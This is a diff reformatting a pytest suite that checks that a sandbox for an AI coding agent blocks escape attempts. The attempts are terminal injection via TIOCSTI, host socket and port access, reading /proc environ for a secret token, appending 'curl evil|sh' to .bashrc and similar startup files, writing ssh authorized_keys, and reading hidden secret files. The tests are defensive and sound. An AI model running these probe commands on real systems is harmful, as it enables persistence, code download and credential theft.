@@ -37,7 +37,8 @@ try:
 except OSError as e:
     res.append("tiocsti:" + errno.errorcode[e.errno])
 libc = ctypes.CDLL(None, use_errno=True)
-r = libc.syscall(16, 0, ctypes.c_ulong(0x100005412), ctypes.c_char_p(b"Y"))  # x86_64 ioctl, high bits set
+# x86_64 ioctl, high bits set
+r = libc.syscall(16, 0, ctypes.c_ulong(0x100005412), ctypes.c_char_p(b"Y"))
 res.append("tiocsti-high:" + ("ALLOWED" if r == 0 else errno.errorcode[ctypes.get_errno()]))
 try:
     fcntl.ioctl(0, 0x541C, b"\x06"); res.append("tioclinux:ALLOWED")
@@ -122,13 +123,16 @@ except OSError as e:
 """
 
 
-def test_host_abstract_socket_is_unreachable_in_host_mode(actor: Actor, abstract_server: str) -> None:
+def test_host_abstract_socket_is_unreachable_in_host_mode(
+    actor: Actor, abstract_server: str
+) -> None:
     repo = actor.make_repo()
     (repo / "probe.py").write_text(ABSTRACT_PROBE)
     actor.own(repo)
     host = actor.run([PY, "probe.py", abstract_server], cwd=repo)
     assert "CONNECTED" in host.stdout  # the attack works outside the sandbox
-    p = actor.agent("run", "-s", "abs", "--net", "host", "--", PY, "probe.py", abstract_server, cwd=repo)
+    p = actor.agent("run", "-s", "abs", "--net", "host", "--", PY, "probe.py", abstract_server,
+                    cwd=repo)
     assert p.returncode == 0, p.stderr
     assert "REFUSED" in p.stdout and "host-secret" not in p.stdout, p.stdout
 
@@ -181,11 +185,14 @@ def host_process(actor: Actor) -> Iterator[subprocess.Popen[bytes]]:
     proc.wait()
 
 
-def test_host_processes_are_invisible_and_unsignalable(actor: Actor, host_process: subprocess.Popen[bytes]) -> None:
+def test_host_processes_are_invisible_and_unsignalable(
+    actor: Actor, host_process: subprocess.Popen[bytes]
+) -> None:
     repo = actor.make_repo()
     pid = host_process.pid
     p = inside(actor, repo, f"kill -0 {pid} 2>/dev/null && echo SIGNALLED; "
-               f"test -e /proc/{pid} && echo VISIBLE; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | "
+               f"test -e /proc/{pid} && echo VISIBLE; "
+               "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | "
                "grep -c HOST_SECRET_TOKEN; ls /proc | grep -c '^[0-9]'")
     assert "SIGNALLED" not in p.stdout and "VISIBLE" not in p.stdout, p.stdout
     lines = p.stdout.split()
@@ -248,8 +255,9 @@ def test_other_sessions_and_the_store_are_unreachable(actor: Actor) -> None:
     assert p.returncode == 0, p.stderr
     state = actor.home / ".local/state/git-agent"
     assert list(state.glob(f"*/sessions/one/upper/{marker}.txt"))  # it is there, on the host
-    p = inside(actor, repo, f"find / -xdev -name '{marker}*' 2>/dev/null; find / -name '{marker}*' "
-               f"2>/dev/null | grep -v '^/proc'; test -e {state} && echo STORE; echo done", session="two")
+    p = inside(actor, repo, f"find / -xdev -name '{marker}*' 2>/dev/null; "
+               f"find / -name '{marker}*' 2>/dev/null | grep -v '^/proc'; "
+               f"test -e {state} && echo STORE; echo done", session="two")
     assert p.stdout.strip() == "done", p.stdout
 
 
@@ -261,8 +269,10 @@ def test_agent_home_startup_files_are_read_only(actor: Actor) -> None:
     actor.own(aihome)
     p = inside(actor, repo, "for f in .bashrc .profile .zshrc .gitconfig .bash_profile; do "
                "echo 'curl evil|sh' >> ~/$f 2>/dev/null && echo WROTE $f; done; "
-               "mkdir -p ~/.ssh 2>/dev/null; echo key > ~/.ssh/authorized_keys 2>/dev/null && echo WROTE ssh; "
-               "rm -f ~/.bashrc 2>/dev/null; test -e ~/.bashrc && echo still; echo ok > ~/notes.txt && echo free")
+               "mkdir -p ~/.ssh 2>/dev/null; "
+               "echo key > ~/.ssh/authorized_keys 2>/dev/null && echo WROTE ssh; "
+               "rm -f ~/.bashrc 2>/dev/null; test -e ~/.bashrc && echo still; "
+               "echo ok > ~/notes.txt && echo free")
     assert "WROTE" not in p.stdout, p.stdout
     assert "still" in p.stdout and "free" in p.stdout  # the rest of the home stays writable
     assert (aihome / ".bashrc").read_text() == "# mine\n"
@@ -275,7 +285,8 @@ def test_hidden_paths_are_empty_inside(actor: Actor) -> None:
     (repo / "secrets").mkdir()
     (repo / "secrets" / "key.pem").write_text("PRIVATE\n")
     actor.own(repo)
-    p = inside(actor, repo, "cat .env.production; ls -A secrets; (echo x > .env.production) 2>/dev/null && echo WROTE; true",
+    p = inside(actor, repo, "cat .env.production; ls -A secrets; "
+               "(echo x > .env.production) 2>/dev/null && echo WROTE; true",
                "--hide", ".env.production", "--hide", "secrets")
     assert p.returncode == 0, p.stderr
     assert "hunter2" not in p.stdout and "key.pem" not in p.stdout and "WROTE" not in p.stdout
@@ -328,9 +339,11 @@ def test_host_tcp_ports_per_network_mode(actor: Actor, two_ports: tuple[int, int
     (repo / "probe.py").write_text(TCP_PROBE)
     actor.own(repo)
     args = ["--net", mode] + (["--allow-port", str(allowed)] if mode == "isolated" else [])
-    p = actor.agent("run", "-s", "net", *args, "--", PY, "probe.py", str(allowed), str(other), cwd=repo)
+    p = actor.agent("run", "-s", "net", *args, "--", PY, "probe.py", str(allowed), str(other),
+                    cwd=repo)
     assert p.returncode == 0, p.stderr
-    expect = {"host": ("OPEN", "OPEN"), "none": ("CLOSED", "CLOSED"), "isolated": ("OPEN", "CLOSED")}[mode]
+    expect = {"host": ("OPEN", "OPEN"), "none": ("CLOSED", "CLOSED"),
+              "isolated": ("OPEN", "CLOSED")}[mode]
     assert f"{allowed} {expect[0]}" in p.stdout, p.stdout + p.stderr
     assert f"{other} {expect[1]}" in p.stdout, p.stdout + p.stderr
 
@@ -341,18 +354,22 @@ def test_allow_port_without_isolated_is_refused(actor: Actor) -> None:
     assert p.returncode == 2 and "--net isolated" in p.stderr
 
 
-def test_isolated_network_that_cannot_start_refuses_to_run_the_agent(actor: Actor, tun_usable: None) -> None:
+def test_isolated_network_that_cannot_start_refuses_to_run_the_agent(
+    actor: Actor, tun_usable: None
+) -> None:
     """Fail closed: when pasta fails, the agent never runs (and nothing is left running)."""
     repo = actor.make_repo()
     fakebin = actor.base / "fakebin"
     fakebin.mkdir()
-    (fakebin / "pasta").write_text("#!/bin/sh\necho 'pasta: Couldn't open network namespace' >&2\nexit 1\n")
+    (fakebin / "pasta").write_text("#!/bin/sh\n"
+                                   "echo 'pasta: Couldn't open network namespace' >&2\n"
+                                   "exit 1\n")
     (fakebin / "pasta").chmod(0o755)
     actor.own(fakebin)
     marker = actor.home / "aihome" / "ran.txt"
     env = {"PATH": f"{fakebin}:{actor.env['PATH']}"}
-    p = actor.agent("run", "-s", "nonet", "--net", "isolated", "--", "sh", "-c", "echo ran > ~/ran.txt",
-                    cwd=repo, env=env)
+    p = actor.agent("run", "-s", "nonet", "--net", "isolated", "--",
+                    "sh", "-c", "echo ran > ~/ran.txt", cwd=repo, env=env)
     assert p.returncode != 0
     assert [line for line in p.stderr.splitlines() if line.startswith("git agent:")], p.stderr
     assert "Traceback" not in p.stderr
